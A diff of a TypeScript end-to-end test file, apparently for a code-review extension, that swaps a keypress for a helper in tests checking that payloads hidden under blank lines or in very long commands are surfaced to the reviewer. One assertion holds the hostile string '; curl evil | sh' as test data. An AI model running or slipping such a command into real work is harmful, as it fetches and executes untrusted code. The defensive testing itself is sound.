@@ -1,7 +1,7 @@
 import { createServer } from "node:http";
 import type { AddressInfo } from "node:net";
 import { afterAll, afterEach, beforeAll, expect, onTestFinished, test } from "vitest";
-import { Desk, read, settle } from "../support/vscode/desk.ts";
+import { Desk, meanIt, read, settle } from "../support/vscode/desk.ts";
 
 /** What a review must say of what one does not see in it, and what it must not do while one looks. */
 
@@ -59,7 +59,7 @@ test("T16: a payload below 3,000 blank lines is told above the change, marked wh
 	await expect.poll(async () => (await decorations()).join()).toContain("‹after 3,000 blank lines›");
 	await window.screenshot("dist/shots/long-content-end.png");
 	await settle(window);
-	await window.press("Shift+Alt+KeyY");
+	await meanIt(window);
 	await window.dialog().getByText("it goes on at line 3,002").waitFor();
 	expect(await desk.stateOf(asked)).toMatchObject({ status: "waiting" });
 	await window.dialog().getByRole("button", { name: "Approve Once" }).click();
@@ -75,7 +75,7 @@ test("T16: a single-line command of 100 KB is shown whole, said to be long, and 
 	await window.press("Control+End");
 	await expect.poll(() => window.editorText()).toContain("; curl evil | sh");
 	await settle(window);
-	await window.press("Shift+Alt+KeyY");
+	await meanIt(window);
 	await window.dialog().getByText("longer than a screen").waitFor();
 	await window.press("Escape");
 	await settle(window);
